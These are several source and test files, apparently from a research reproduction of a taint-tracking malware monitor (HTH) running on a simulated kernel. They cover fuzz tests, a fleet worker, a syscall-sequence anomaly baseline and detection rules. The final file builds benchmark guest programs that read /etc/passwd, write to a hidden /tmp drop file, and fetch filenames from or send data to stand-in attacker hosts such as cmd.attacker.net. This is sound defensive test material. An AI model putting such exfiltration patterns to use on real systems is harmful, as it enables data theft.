AssemblyError — never an unrelated exception — and assembly is
deterministic."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.isa import AssemblyError, assemble

_line_chars = st.characters(
    min_codepoint=32, max_codepoint=126
)
_random_source = st.lists(
    st.text(alphabet=_line_chars, max_size=40), max_size=12
).map("\n".join)


class TestRobustness:
    @given(_random_source)
    @settings(max_examples=200, deadline=None)
    def test_never_raises_unexpected(self, source):
        try:
            assemble("/bin/fuzz", source)
        except AssemblyError:
            pass  # the one sanctioned failure mode

    @given(_random_source)
    @settings(max_examples=50, deadline=None)
    def test_deterministic(self, source):
        try:
            first = assemble("/bin/fuzz", source)
        except AssemblyError:
            try:
                assemble("/bin/fuzz", source)
            except AssemblyError:
                return
            raise AssertionError("nondeterministic failure")
        second = assemble("/bin/fuzz", source)
        assert first.symbols == second.symbols
        assert first.data == second.data
        assert first.bb_leaders == second.bb_leaders
        assert [str(i) for i in first.text] == [str(i) for i in second.text]

    @given(st.text(alphabet=st.characters(min_codepoint=1,
                                          max_codepoint=0x7F),
                   max_size=30))
    @settings(max_examples=100, deadline=None)
    def test_asciz_content_roundtrip(self, content):
        """Any printable-ish string survives .asciz encoding (via the
        assembler's own escaping)."""
        escaped = (
            content.replace("\\", "\\\\").replace('"', '\\"')
            .replace("\n", "\\n").replace("\t", "\\t").replace("\r", "\\r")
        )
        # control characters other than \n\t\r cannot be written literally
        if any(ord(c) < 32 and c not in "\n\t\r" for c in content):
            return
        image = assemble(
            "/bin/t", f'main: ret\n.data\ns: .asciz "{escaped}"'
        )
        base = image.symbols["s"]
        chars = []
        i = 0
        while image.data.get(base + i, 0) != 0:
            chars.append(chr(image.data[base + i]))
            i += 1
        assert "".join(chars) == content
