"""Fleet worker: one process, one warm Session, one shard of tasks.

The worker entrypoint (:func:`worker_main`) is a top-level function so
it survives both ``fork`` and ``spawn`` start methods.  Each worker
builds a single :class:`repro.api.Session` and runs its whole shard
through it, so the translated-block store, tag-set interner, and
assemble memo stay warm across the shard — the same reuse a serial
sweep gets, without sharing any mutable machine state between runs.

Retry policy (:func:`run_task_with_retry`): a run whose result reason is
``watchdog`` (wall-clock stall) or that recorded contained
``MonitorFault``s is scheduling noise, not a property of the workload —
it is retried up to ``max_retries`` times with linear backoff, on a
fresh machine each attempt.  Deterministic outcomes (verdicts, rule
firings) are never retried; a genuinely wedged workload exhausts its
retries and surfaces as a failed record with its retry history intact.
"""

from __future__ import annotations

import time
import traceback
from typing import Callable, List, Optional

from repro.api import Session
from repro.core.report import RunReport
from repro.fleet.refs import FleetTask

#: Linear backoff base between retry attempts, seconds.
DEFAULT_BACKOFF = 0.05

RETRY_WATCHDOG = "watchdog"
RETRY_MONITOR_FAULT = "monitor-fault"
RETRY_ERROR = "error"


def retry_reason(report: RunReport) -> Optional[str]:
    """Why this run should be retried, or None if it stands.

    Only transient, machine-level outcomes qualify: a watchdog kill
    (the host stalled, not the guest) or a contained monitor fault.
    """
    if report.result.reason == "watchdog":
        return RETRY_WATCHDOG
    if report.monitor_faults:
        return RETRY_MONITOR_FAULT
    return None


def run_task_with_retry(
    session: Session,
    task: FleetTask,
    worker_id: int = 0,
    max_retries: int = 1,
    backoff: float = DEFAULT_BACKOFF,
    sleep: Callable[[float], None] = time.sleep,
    runner: Optional[Callable[..., RunReport]] = None,
) -> dict:
    """Run one task (with retries) and return its wire record.

    ``runner(workload, options, telemetry)`` is injectable so the retry
    path is unit-testable without multiprocessing or a real stall; the
    default runs through the session's warm engine.
    """
    started = time.perf_counter()
    retries: List[str] = []
    report: Optional[RunReport] = None
    spans: Optional[List[dict]] = None
    error: Optional[str] = None
    ok: Optional[bool] = None

    workload = None
    try:
        workload = task.ref.resolve()
    except Exception:
        error = traceback.format_exc()

    if runner is None:
        runner = lambda w, o, t: session.run_workload(  # noqa: E731
            w, options=o, telemetry=t
        )

    attempt = 0
    while workload is not None and attempt <= max_retries:
        attempt += 1
        error = None
        # A fresh hub per attempt: telemetry from a retried (discarded)
        # attempt must not leak into the merged fleet registry.
        hub = task.options.make_telemetry()
        try:
            report = runner(workload, task.options, hub)
        except Exception:
            report = None
            error = traceback.format_exc()
            reason = RETRY_ERROR
        else:
            reason = retry_reason(report)
        if reason is None:
            break
        if attempt <= max_retries:
            retries.append(reason)
            if backoff > 0:
                sleep(backoff * attempt)

    if report is not None and workload is not None:
        ok = workload.classified_correctly(report)
        if task.options.trace and hub is not None and hub.tracer is not None:
            spans = [s.to_dict() for s in hub.tracer.finished()]

    return {
        "kind": "run",
        "index": task.index,
        "name": task.ref.name,
        "worker": worker_id,
        "attempts": max(attempt, 1),
        "retries": retries,
        "ok": ok,
        "report": report.to_dict() if report is not None else None,
        "spans": spans,
        "error": error,
        "elapsed": time.perf_counter() - started,
    }


def worker_main(
    worker_id: int,
    tasks: List[FleetTask],
    queue,
    max_retries: int = 1,
    backoff: float = DEFAULT_BACKOFF,
) -> None:
    """Process entrypoint: drain a shard, stream records, then a sentinel.

    Records stream as each task finishes (the coordinator shows progress
    and merges incrementally); the final ``worker-done`` message carries
    the worker's warm-engine statistics for the fleet summary.
    """
    session = Session()
    for task in tasks:
        record = run_task_with_retry(
            session,
            task,
            worker_id=worker_id,
            max_retries=max_retries,
            backoff=backoff,
        )
        queue.put(record)
    queue.put({
        "kind": "worker-done",
        "worker": worker_id,
        "runs": session.runs,
        "engine": session.engine.stats(),
    })
