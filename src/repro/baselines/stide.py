"""stide-style syscall-sequence anomaly detection (paper section 3.2).

The paper positions HTH against host-based anomaly detectors that learn
*normal* syscall sequences (Kosoresow & Hofmeyr [15]; Forrest's stide
family; the gray-box taxonomy of Gao et al. [5]).  This baseline
implements the classic scheme — a database of length-``k`` sliding
windows over syscall-number traces gathered from normal runs; at
detection time the fraction of unseen windows is the anomaly score —
so the benchmark harness can contrast it with HTH's semantic policy on
the same workloads.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.kernel.hooks import CompositeHooks, KernelHooks
from repro.kernel.syscalls import syscall_name
from repro.programs.base import Workload


class SyscallTraceRecorder(KernelHooks):
    """Records the per-process syscall name sequence (Harrier-independent:
    this is the black-box view a stide monitor actually has)."""

    def __init__(self) -> None:
        self.traces: Dict[int, List[str]] = {}

    def on_syscall_pre(self, proc, sysno, args, info) -> bool:
        self.traces.setdefault(proc.pid, []).append(syscall_name(sysno))
        return True

    def merged_trace(self) -> List[str]:
        """All processes' traces concatenated in pid order."""
        out: List[str] = []
        for pid in sorted(self.traces):
            out.extend(self.traces[pid])
        return out


def record_trace(workload: Workload) -> List[str]:
    """Run a workload (unmonitored by Secpert) and return its trace."""
    hth = workload.build_machine()
    recorder = SyscallTraceRecorder()
    hth.kernel.hooks = CompositeHooks([hth.harrier, recorder])
    hth.run(
        workload.image(),
        argv=workload.argv or [workload.program_path],
        env=workload.env,
        stdin=workload.stdin,
        max_ticks=workload.max_ticks,
    )
    return recorder.merged_trace()


@dataclass
class StideDetector:
    """Sequence time-delay embedding over syscall names."""

    window: int = 6
    threshold: float = 0.05
    _database: Set[Tuple[str, ...]] = field(default_factory=set)

    def _windows(self, trace: Sequence[str]) -> Iterable[Tuple[str, ...]]:
        if len(trace) < self.window:
            if trace:
                yield tuple(trace)
            return
        for i in range(len(trace) - self.window + 1):
            yield tuple(trace[i:i + self.window])

    def train(self, trace: Sequence[str]) -> None:
        self._database.update(self._windows(trace))

    def train_all(self, traces: Iterable[Sequence[str]]) -> None:
        for trace in traces:
            self.train(trace)

    @property
    def database_size(self) -> int:
        return len(self._database)

    def score(self, trace: Sequence[str]) -> float:
        """Fraction of windows never seen during training (0 = normal)."""
        windows = list(self._windows(trace))
        if not windows:
            return 0.0
        unseen = sum(1 for w in windows if w not in self._database)
        return unseen / len(windows)

    def is_anomalous(self, trace: Sequence[str]) -> bool:
        return self.score(trace) > self.threshold


@dataclass
class StideEvaluation:
    """Detection/false-positive comparison on a workload suite."""

    name: str
    score: float
    flagged: bool
    should_flag: bool

    @property
    def correct(self) -> bool:
        return self.flagged == self.should_flag


def evaluate_stide(
    train_workloads: Sequence[Workload],
    test_workloads: Sequence[Tuple[Workload, bool]],
    window: int = 6,
    threshold: float = 0.05,
) -> List[StideEvaluation]:
    """Train on normal runs, test on (workload, is_malicious) pairs."""
    detector = StideDetector(window=window, threshold=threshold)
    detector.train_all(record_trace(w) for w in train_workloads)
    results = []
    for workload, should_flag in test_workloads:
        trace = record_trace(workload)
        score = detector.score(trace)
        results.append(
            StideEvaluation(
                name=workload.name,
                score=score,
                flagged=score > threshold,
                should_flag=should_flag,
            )
        )
    return results
