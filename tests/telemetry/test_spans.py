"""Span tracer: tree structure, clocks, export formats."""

import json

from repro.telemetry import (
    CATEGORY_PROCESS,
    CATEGORY_RUN,
    CATEGORY_SYSCALL,
    SpanTracer,
)


def _small_trace():
    tracer = SpanTracer()
    run = tracer.start("kernel.run", CATEGORY_RUN, tick=0)
    proc = tracer.start(
        "pid1 /bin/x", CATEGORY_PROCESS, tick=0, parent=run, tid=1,
        command="/bin/x",
    )
    sc = tracer.start(
        "SYS_open", CATEGORY_SYSCALL, tick=5, parent=proc, tid=1, sysno=5
    )
    tracer.end(sc, tick=6)
    tracer.end(proc, tick=10, exit_code=0)
    tracer.end(run, tick=10)
    return tracer


class TestSpanTree:
    def test_parenting_and_ids(self):
        tracer = _small_trace()
        run, proc, sc = tracer.spans
        assert run.parent_id is None
        assert proc.parent_id == run.span_id
        assert sc.parent_id == proc.span_id

    def test_two_clocks(self):
        tracer = _small_trace()
        sc = tracer.by_category(CATEGORY_SYSCALL)[0]
        assert sc.duration_ticks == 1
        assert sc.duration_wall >= 0
        assert sc.start_wall >= 0  # relative to the tracer epoch

    def test_unfinished_span_excluded_from_finished(self):
        tracer = SpanTracer()
        tracer.start("open-ended", CATEGORY_RUN, tick=0)
        assert len(tracer) == 1
        assert tracer.finished() == []

    def test_end_merges_attrs(self):
        tracer = SpanTracer()
        span = tracer.start("s", CATEGORY_SYSCALL, tick=0, sysno=3)
        tracer.end(span, tick=1, blocked=False)
        assert span.attrs == {"sysno": 3, "blocked": False}

    def test_tracks(self):
        tracer = SpanTracer()
        assert tracer.track == 0
        t1 = tracer.begin_track("workload-a")
        span = tracer.start("s", CATEGORY_RUN, tick=0)
        assert span.track == t1
        assert tracer.track_labels[t1] == "workload-a"


class TestExport:
    def test_jsonl_one_finished_span_per_line(self):
        tracer = _small_trace()
        lines = tracer.to_jsonl().splitlines()
        assert len(lines) == 3
        parsed = [json.loads(line) for line in lines]
        assert {p["category"] for p in parsed} == {
            "run", "process", "syscall"
        }
        assert all("duration_wall" in p for p in parsed)

    def test_chrome_trace_schema(self):
        trace = _small_trace().to_chrome_trace()
        assert trace["displayTimeUnit"] == "ms"
        events = trace["traceEvents"]
        meta = [e for e in events if e["ph"] == "M"]
        complete = [e for e in events if e["ph"] == "X"]
        assert meta and meta[0]["name"] == "process_name"
        assert len(complete) == 3
        for event in complete:
            assert set(event) >= {
                "name", "cat", "ts", "dur", "pid", "tid", "args"
            }
            assert event["ts"] >= 0 and event["dur"] >= 0
        syscall = next(e for e in complete if e["cat"] == "syscall")
        assert syscall["args"]["sysno"] == 5
        assert syscall["args"]["parent_id"] is not None
        assert syscall["tid"] == 1

    def test_chrome_trace_is_json_serializable(self):
        json.dumps(_small_trace().to_chrome_trace())

    def test_write_json_vs_jsonl(self, tmp_path):
        tracer = _small_trace()
        chrome = tmp_path / "trace.json"
        jsonl = tmp_path / "trace.jsonl"
        tracer.write(str(chrome))
        tracer.write(str(jsonl))
        assert "traceEvents" in json.loads(chrome.read_text())
        lines = jsonl.read_text().strip().splitlines()
        assert len(lines) == 3
        json.loads(lines[0])
