"""Verdict-cache throughput under realistic traffic mixes.

The cache's value depends on the mix of traffic hitting it, so we
measure the two ends of the spectrum the scaling docs reason about:

* duplicate-heavy — the always-on service shape: the same binary
  submitted over and over (automated resubmits, fleet re-sweeps of an
  unchanged corpus).  All but the first run hit.
* variant-heavy   — a polymorphic corpus: many near-duplicate variants
  (one patched data literal each), every variant resubmitted a few
  times.  Each *variant* misses exactly once — a patched literal moves
  the image digest — and repeats hit, so the hit rate lands at
  ``1 - unique/runs``.

Each mix is run through an uncached session and a cache-enabled
session; the report is runs/sec for both, the speedup, and the
measured hit rate.  The shape assertions are deliberately loose (this
is a throughput *report* — the hard 50x latency gate lives in
``benchmarks.perf_smoke``): hits must make the cached sweep faster,
and the hit rates must be exactly what the mix predicts, proving no
variant ever aliased another's verdict.

Results land in ``benchmarks/results/cache_throughput.txt`` and
``benchmarks/results/BENCH_cache_throughput.json``.
"""

import json
import time

from benchmarks.harness import render_table, write_result
from repro.api import Session, VerdictCache
from benchmarks.bench_performance import WORKLOAD_SOURCE

#: Variant template: one patched data literal per variant — identical
#: control flow and runtime, but a distinct assembled-image digest.
_VARIANT_TEMPLATE = """
main:
    mov edi, 0
spin:
    cmp edi, 8
    jge emit
    mov ebx, buf
    mov ecx, tag
    call strcpy
    add edi, 1
    jmp spin
emit:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, tag
    call fputs
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
path: .asciz "/tmp/variant"
tag:  .asciz "variant-{n:03d}"
buf:  .space 32
"""

VARIANTS = 40
REPEATS = 5


def _duplicate_mix(runs=60):
    """The same §9 workload, ``runs`` times over."""
    return [("/bin/perf", WORKLOAD_SOURCE)] * runs


def _variant_mix():
    """VARIANTS distinct programs, interleaved so repeats of a variant
    never arrive back to back (the worst case for a naive MRU-only
    cache, the common case for a shared fleet store)."""
    sources = [
        (f"/bin/variant{n}", _VARIANT_TEMPLATE.format(n=n))
        for n in range(VARIANTS)
    ]
    return [sources[n] for _ in range(REPEATS) for n in range(VARIANTS)]


def _sweep(mix, cache):
    session = Session(cache=cache)
    start = time.perf_counter()
    for path, source in mix:
        report = session.run(source, path=path)
        assert report.exit_code == 0
    elapsed = time.perf_counter() - start
    return len(mix) / elapsed


def _measure(mix):
    uncached = _sweep(mix, cache=None)
    cache = VerdictCache()
    cached = _sweep(mix, cache=cache)
    unique = len({(p, s) for p, s in mix})
    return {
        "runs": len(mix),
        "unique_programs": unique,
        "uncached_runs_per_sec": uncached,
        "cached_runs_per_sec": cached,
        "speedup": cached / uncached,
        "hit_rate": cache.stats.hits / len(mix),
        "hits": cache.stats.hits,
        "misses": cache.stats.misses,
    }


def bench_cache_throughput(benchmark):
    def measure():
        return {
            "duplicate_heavy": _measure(_duplicate_mix()),
            "variant_heavy": _measure(_variant_mix()),
        }

    mixes = benchmark.pedantic(measure, rounds=1, iterations=1)
    rows = [
        (
            name,
            mix["runs"],
            mix["unique_programs"],
            f"{mix['uncached_runs_per_sec']:.0f}",
            f"{mix['cached_runs_per_sec']:.0f}",
            f"{mix['speedup']:.1f}x",
            f"{mix['hit_rate']:.2f}",
        )
        for name, mix in mixes.items()
    ]
    text = render_table(
        "Verdict-cache throughput by traffic mix",
        ("mix", "runs", "unique", "uncached runs/s",
         "cached runs/s", "speedup", "hit rate"),
        rows,
    )
    print("\n" + text)
    write_result("cache_throughput.txt", text)
    write_result(
        "BENCH_cache_throughput.json",
        json.dumps(mixes, indent=2) + "\n",
    )

    dup, var = mixes["duplicate_heavy"], mixes["variant_heavy"]
    # Exactly one miss per distinct program, ever — content addressing
    # never aliases a patched variant onto another's verdict.
    assert dup["misses"] == dup["unique_programs"] == 1
    assert dup["hits"] == dup["runs"] - 1
    assert var["misses"] == var["unique_programs"] == VARIANTS
    assert var["hit_rate"] == 1 - VARIANTS / var["runs"]  # 0.8
    # Hits make the sweep faster; duplicate-heavy approaches pure
    # lookup throughput, variant-heavy still pays one execution per
    # variant so the win is smaller but must be real.
    assert dup["speedup"] > var["speedup"] > 1.0, mixes
