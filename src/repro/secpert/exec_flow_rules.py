"""Execution-flow rules (paper section 4.1 / appendix A.2).

Implemented as one production, ``check_execve``, following the appendix:
it matches a ``system_call_access`` fact for SYS_execve whose resource
origin survives the trusted-binary / trusted-socket filters, and grades
the warning:

* hardcoded process name                      -> Low
* hardcoded + rarely-executed code            -> Medium
* process name originated from a socket       -> High
"""

from __future__ import annotations

from typing import List

from repro.expert.conditions import Pattern, Test, V
from repro.expert.engine import Rule, RuleContext
from repro.secpert.policy import PolicyConfig
from repro.secpert.warnings import SecurityWarning, Severity, WarningSink


def build_exec_flow_rules(policy: PolicyConfig) -> List[Rule]:
    def suspicious(bindings) -> bool:
        origin = bindings["origin"]
        return bool(
            policy.filter_binary(origin) or policy.filter_socket(origin)
        )

    def check_execve(ctx: RuleContext) -> None:
        sink: WarningSink = ctx.context["warn"]
        origin = ctx["origin"]
        name = ctx["name"]
        frequency = ctx["frequency"]
        time = ctx["time"]
        suspicious_binaries = policy.filter_binary(origin)
        suspicious_sockets = policy.filter_socket(origin)

        severity = Severity.LOW
        rare = policy.is_rare(frequency, time)
        if suspicious_binaries and rare:
            severity = Severity.MEDIUM
        if suspicious_sockets:
            severity = Severity.HIGH

        details = []
        if suspicious_binaries:
            sources = ", ".join(f'("{b}")' for b in suspicious_binaries)
            details.append(f'("{name}") originated from {sources}')
        if suspicious_sockets:
            sources = ", ".join(f'("{s}")' for s in suspicious_sockets)
            details.append(
                f'("{name}") originated from a socket: {sources}'
            )
        if rare:
            details.append("This code is rarely executed...")

        sink.add(
            SecurityWarning(
                severity=severity,
                rule="check_execve",
                headline=f'Found SYS_execve call ("{name}")',
                details=tuple(details),
                pid=ctx["pid"],
                time=time,
            )
        )

    rule = Rule(
        name="check_execve",
        doc="Warn when a new process's name is hardcoded or remote-supplied",
        lhs=[
            Pattern(
                "system_call_access",
                system_call_name="SYS_execve",
                resource_name=V("name"),
                resource_origin=V("origin"),
                frequency=V("frequency"),
                time=V("time"),
                pid=V("pid"),
            ),
            Test(suspicious),
        ],
        action=check_execve,
    )
    return [rule]
