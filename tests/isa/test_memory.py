"""FlatMemory tests: cells, strings, code mapping."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.isa import FlatMemory, Instruction, MemoryFault, Opcode


class TestCells:
    def test_zero_fill(self):
        mem = FlatMemory()
        assert mem.read(0x1234) == 0

    def test_write_read(self):
        mem = FlatMemory()
        mem.write(5, 42)
        assert mem.read(5) == 42

    def test_block_roundtrip(self):
        mem = FlatMemory()
        mem.write_block(10, [1, 2, 3])
        assert mem.read_block(10, 3) == [1, 2, 3]
        assert mem.read_block(9, 5) == [0, 1, 2, 3, 0]

    def test_bytes_roundtrip(self):
        mem = FlatMemory()
        mem.write_bytes(0, b"abc")
        assert mem.read_bytes(0, 3) == b"abc"

    def test_bytes_masks_to_byte(self):
        mem = FlatMemory()
        mem.write(0, 0x1FF)
        assert mem.read_bytes(0, 1) == b"\xff"


class TestStrings:
    def test_cstring_roundtrip(self):
        mem = FlatMemory()
        n = mem.write_cstring(100, "hello")
        assert n == 6
        assert mem.read_cstring(100) == "hello"

    def test_empty_string(self):
        mem = FlatMemory()
        mem.write_cstring(0, "")
        assert mem.read_cstring(0) == ""

    def test_unterminated_string_faults(self):
        mem = FlatMemory()
        for i in range(10):
            mem.write(i, ord("x"))
        with pytest.raises(MemoryFault):
            mem.read_cstring(0, max_len=5)

    @given(st.text(alphabet=st.characters(min_codepoint=1,
                                          max_codepoint=0x7F),
                   max_size=20))
    def test_cstring_roundtrip_property(self, text):
        mem = FlatMemory()
        mem.write_cstring(50, text)
        assert mem.read_cstring(50) == text

    def test_surrogate_cells_become_replacement_char(self):
        # a guest can store any int in a cell; surrogate code points
        # (U+D800-U+DFFF) would crash chr()-based decoding, so they read
        # back as U+FFFD instead of faulting the monitor
        mem = FlatMemory()
        for i, value in enumerate((ord("a"), 0xD800, 0xDFFF, ord("b"))):
            mem.write(i, value)
        mem.write(4, 0)
        assert mem.read_cstring(0) == "a��b"

    def test_out_of_plane_values_masked_to_codepoints(self):
        # only a literal zero cell terminates; huge values are masked
        # into the unicode range instead of raising ValueError
        mem = FlatMemory()
        mem.write(0, 0x200000)  # & 0x10FFFF == 0 but the cell is nonzero
        mem.write(1, 0)
        assert mem.read_cstring(0) == "\x00"
        mem.write(0, (1 << 30) | ord("z"))
        assert mem.read_cstring(0) == "z"


class TestCode:
    def test_map_and_fetch(self):
        mem = FlatMemory()
        nop = Instruction(Opcode.NOP)
        assert mem.map_code(0x100, [nop, nop]) == 2
        assert mem.fetch(0x101) is nop
        assert mem.has_code(0x100)
        assert not mem.has_code(0x102)

    def test_fetch_unmapped_faults(self):
        with pytest.raises(MemoryFault):
            FlatMemory().fetch(0)

    def test_overlapping_map_rejected(self):
        mem = FlatMemory()
        mem.map_code(0, [Instruction(Opcode.NOP)])
        with pytest.raises(MemoryFault):
            mem.map_code(0, [Instruction(Opcode.NOP)])

    def test_copy_shares_instructions_but_not_cells(self):
        mem = FlatMemory()
        nop = Instruction(Opcode.NOP)
        mem.map_code(0, [nop])
        mem.write(5, 9)
        dup = mem.copy()
        dup.write(5, 10)
        assert mem.read(5) == 9
        assert dup.fetch(0) is nop
