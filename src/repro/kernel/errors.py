"""Errno constants and kernel-level exceptions.

Syscalls return negative errno values on failure (the Linux i386
convention), so guest code tests ``cmp eax, 0 / jl error``.
"""

from __future__ import annotations

# Linux errno numbers (the subset the simulated kernel uses).
EPERM = 1
ENOENT = 2
ESRCH = 3
EIO = 5
EBADF = 9
EAGAIN = 11
ENOMEM = 12
EACCES = 13
EFAULT = 14
EEXIST = 17
ENOTDIR = 20
EISDIR = 21
EINVAL = 22
ENFILE = 23
EMFILE = 24
ENOSPC = 28
EPIPE = 32
ENOSYS = 38
ECONNRESET = 104
ENOTSOCK = 88
EOPNOTSUPP = 95
EADDRINUSE = 98
ECONNREFUSED = 111
EHOSTUNREACH = 113
ENOEXEC = 8

ERRNO_NAMES = {
    EPERM: "EPERM",
    ENOENT: "ENOENT",
    ESRCH: "ESRCH",
    EIO: "EIO",
    ENOEXEC: "ENOEXEC",
    EBADF: "EBADF",
    EAGAIN: "EAGAIN",
    ENOMEM: "ENOMEM",
    EACCES: "EACCES",
    EFAULT: "EFAULT",
    EEXIST: "EEXIST",
    ENOTDIR: "ENOTDIR",
    EISDIR: "EISDIR",
    EINVAL: "EINVAL",
    ENFILE: "ENFILE",
    EMFILE: "EMFILE",
    ENOSPC: "ENOSPC",
    EPIPE: "EPIPE",
    ENOSYS: "ENOSYS",
    ECONNRESET: "ECONNRESET",
    ENOTSOCK: "ENOTSOCK",
    EOPNOTSUPP: "EOPNOTSUPP",
    EADDRINUSE: "EADDRINUSE",
    ECONNREFUSED: "ECONNREFUSED",
    EHOSTUNREACH: "EHOSTUNREACH",
}


def errno_name(code: int) -> str:
    """Human-readable name for a (positive) errno value."""
    return ERRNO_NAMES.get(code, f"errno{code}")


class KernelError(Exception):
    """Base class for kernel implementation errors (not guest errors)."""


class DeadlockError(KernelError):
    """All live processes are blocked with no event that could wake them."""


class WouldBlock(Exception):
    """Raised by a syscall handler that cannot complete yet.

    The kernel parks the process and retries the same handler on later
    scheduler passes; handlers are written to be idempotent until they
    succeed.
    """

    def __init__(self, reason: str) -> None:
        super().__init__(reason)
        self.reason = reason
