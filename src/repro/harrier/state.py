"""Per-process monitor state: shadow tags, BB counters, routine frames."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.kernel.loader import LoadedImage
from repro.taint.shadow import ShadowMemory, ShadowRegisters
from repro.taint.tags import TagSet


@dataclass
class ShortCircuitFrame:
    """An in-flight call to a short-circuited routine (section 7.2)."""

    symbol: str
    return_addr: int
    #: esp value expected right after the matching RET executes.
    sp_after_ret: int
    #: Tag of the routine's *input name* — copied onto the result.
    tags: TagSet


@dataclass
class ProcessShadow:
    """Everything Harrier remembers about one process."""

    regs: ShadowRegisters = field(default_factory=ShadowRegisters)
    memory: ShadowMemory = field(default_factory=ShadowMemory)
    #: Execution count per application basic-block address.
    bb_counts: Dict[int, int] = field(default_factory=dict)
    #: Address of the most recent *application* basic block (section 7.4).
    last_app_bb: Optional[int] = None
    #: Leader address -> True for application images (fast per-step lookup).
    app_leaders: Dict[int, bool] = field(default_factory=dict)
    #: Leader addresses of non-app (shared object / shim) images.
    lib_leaders: Dict[int, bool] = field(default_factory=dict)
    #: Absolute address -> image, for immediates' BINARY tags.
    code_image: Dict[int, LoadedImage] = field(default_factory=dict)
    #: Addresses of short-circuited routines -> symbol name.
    routine_addrs: Dict[int, str] = field(default_factory=dict)
    frames: List[ShortCircuitFrame] = field(default_factory=list)
    #: (DataSource, resource name) -> origin tags of that resource's *name*
    #: (recorded at open/connect time; the "resource ID data source" of
    #: paper section 5.1, looked up when the resource later appears as a
    #: data *source* in a transfer).
    resource_origins: Dict[tuple, TagSet] = field(default_factory=dict)
    #: Accepted-connection peer name -> (server address, server-address
    #: origin) for "this program has opened a socket for remote
    #: connections" context in warnings (the pma case, section 8.3.6).
    server_sockets: Dict[str, tuple] = field(default_factory=dict)
    #: Times (virtual) at which this program created processes —
    #: shared across fork so the whole program is rated together.
    clone_times: List[int] = field(default_factory=list)

    def copy_for_fork(self) -> "ProcessShadow":
        """Child's view at fork: private tags/counters, shared clone log.

        The clone-time list is intentionally *shared* (the tree forker's
        children each fork once; the abuse is visible only program-wide,
        which is also how the kernel-side observer in the paper sees it).
        """
        dup = ProcessShadow(
            regs=self.regs.copy(),
            memory=self.memory.copy(),
            bb_counts=dict(self.bb_counts),
            last_app_bb=self.last_app_bb,
            app_leaders=self.app_leaders,
            lib_leaders=self.lib_leaders,
            code_image=self.code_image,
            routine_addrs=self.routine_addrs,
            frames=list(self.frames),
            clone_times=self.clone_times,  # shared on purpose
            resource_origins=dict(self.resource_origins),
            server_sockets=dict(self.server_sockets),
        )
        return dup

    def reset_for_exec(self) -> None:
        """execve wipes the address space: drop tags, counters, frames."""
        self.regs.clear()
        self.memory.clear()
        self.bb_counts.clear()
        self.last_app_bb = None
        self.app_leaders = {}
        self.lib_leaders = {}
        self.code_image = {}
        self.routine_addrs = {}
        self.frames.clear()
        self.resource_origins.clear()
        self.server_sockets.clear()
