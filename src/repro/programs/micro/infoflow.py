"""Information-flow micro-benchmarks (paper Table 6).

A program generator covering the full matrix of data *sources* (BINARY,
FILE, SOCKET, HARDWARE), *targets* (FILE, SOCKET), and identifier
*origins* (user-supplied / hardcoded / remote), plus the paper's "tested
twice: once as a socket client and the other a socket server" variants.

Every row assembles a distinct guest program from composable snippets,
so the generated workloads exercise exactly the code paths Harrier's
dataflow tracker and Secpert's information-flow rules must distinguish.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from dataclasses import dataclass
from typing import List, Optional, Tuple

from repro.core.report import Verdict
from repro.kernel.network import ConversationPeer, SinkPeer
from repro.programs.base import Workload

# Simulated remote world.
SINK_HOST = "evil.example.com"
SINK_PORT = 4000
DATA_HOST = "data.attacker.net"
DATA_PORT = 6000
NAME_HOST = "cmd.attacker.net"
NAME_PORT = 5150
SERVER_PORT = 11116  # the pma-style hardcoded local server port

USER_SOURCE_FILE = "/home/user/notes.txt"
HARD_SOURCE_FILE = "/etc/passwd"
USER_TARGET_FILE = "/home/user/out.txt"
HARD_TARGET_FILE = "/tmp/.hidden_drop"
REMOTE_TARGET_FILE = "/tmp/remote_chosen"

_COMMON_DATA = """
buf:      .space 96
namebuf:  .space 64
src_name: .space 1
dst_name: .space 1
src_ip:   .space 1
src_port: .space 1
dst_ip:   .space 1
dst_port: .space 1
datalen:  .space 1
"""


@dataclass(frozen=True)
class Table6Row:
    """One Table 6 row: flow shape + identifier origins + expectation."""

    section: str          # e.g. "Binary -> File"
    label: str            # e.g. "User filename"
    source: str           # 'binary' | 'file' | 'socket' | 'hardware'
    target: str           # 'file' | 'socket' | 'server'
    source_name_origin: Optional[str] = None  # 'user'|'hardcoded'|None
    target_name_origin: Optional[str] = None  # 'user'|'hardcoded'|'remote'
    expected_verdict: Verdict = Verdict.BENIGN
    expected_rules: Tuple[str, ...] = ()


class _ProgramBuilder:
    """Composes the guest assembly for one row."""

    def __init__(self, row: Table6Row) -> None:
        self.row = row
        self.text: List[str] = ["main:", "    mov ebp, esp"]
        self.data: List[str] = [_COMMON_DATA]
        self.argv: List[str] = []
        self._next_argv = 1

    # -- small emission helpers -------------------------------------------
    def emit(self, code: str) -> None:
        self.text.append(code.rstrip())

    def emit_data(self, line: str) -> None:
        self.data.append(line)

    def take_argv(self, value: str) -> int:
        index = self._next_argv
        self.argv.append(value)
        self._next_argv += 1
        return index

    def store_var(self, var: str) -> str:
        return f"    mov edi, {var}\n    store [edi], eax"

    # -- identifier setup ------------------------------------------------------
    def setup_file_name(self, origin: str, var: str, user_value: str,
                        hard_value: str) -> None:
        if origin == "user":
            index = self.take_argv(user_value)
            self.emit(
                f"""
    load eax, [ebp+2]
    load eax, [eax+{index}]
{self.store_var(var)}"""
            )
        elif origin == "hardcoded":
            label = f"hard_{var}"
            self.emit_data(f'{label}: .asciz "{hard_value}"')
            self.emit(
                f"""
    mov eax, {label}
{self.store_var(var)}"""
            )
        elif origin == "remote":
            self.emit_data(f'ns_host: .asciz "{NAME_HOST}"')
            self.emit(
                f"""
    mov ebx, ns_host
    call gethostbyname
    mov ecx, eax
    call socket
    mov esi, eax
    mov ebx, esi
    mov edx, {NAME_PORT}
    call connect_addr
    mov ebx, esi
    mov ecx, namebuf
    mov edx, 63
    call read_line
    mov ebx, esi
    call close
    mov eax, namebuf
{self.store_var(var)}"""
            )
        else:  # pragma: no cover - registry is static
            raise ValueError(f"bad file-name origin {origin!r}")

    def setup_socket_addr(self, origin: str, ip_var: str, port_var: str,
